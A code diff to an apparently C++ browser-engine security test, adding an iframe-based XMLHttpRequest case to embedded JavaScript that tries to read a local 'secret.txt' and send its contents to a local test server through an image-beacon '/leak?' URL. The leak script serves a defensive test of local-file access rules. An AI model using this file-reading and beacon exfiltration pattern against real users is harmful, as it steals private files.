@@ -111,10 +111,10 @@ void TestEngineSecurity::localPages() {
 var server = 'http://127.0.0.1:PORT', results = [];
 function report(text) {
   results.push(text); if (text) new Image().src = server + '/leak?' + encodeURIComponent(text);
-  if (results.length == 4) document.title = 'done ' + results.join(' ');
+  if (results.length == 5) document.title = 'done ' + results.join(' ');
 }
-function xhr(url) {
-  var x = new XMLHttpRequest(); x.open('GET', url, true);
+function xhr(url, frame) {
+  var x = new (frame ? frame.contentWindow.XMLHttpRequest : XMLHttpRequest)(); x.open('GET', url, true);
   x.onload = function() { report(x.responseText); }; x.onerror = function() { report(''); };
   try { x.send(); } catch (e) { report(''); }
 }
@@ -122,7 +122,8 @@ function get(url) {
   if (!window.fetch) return report('');
   fetch(url).then(function(r) { return r.text(); }).then(report, function() { report(''); });
 }
-xhr('secret.txt'); xhr(server + '/xhr'); get('secret.txt'); get(server + '/fetch');
+var frame = document.documentElement.appendChild(document.createElement('iframe'));
+xhr('secret.txt'); xhr(server + '/xhr'); xhr(server + '/frame', frame); get('secret.txt'); get(server + '/fetch');
 </script>)").replace("PORT", QByteArray::number(m_server.Port())));
     TEnginePage page(chromium);
     QVERIFY(page.Ok());
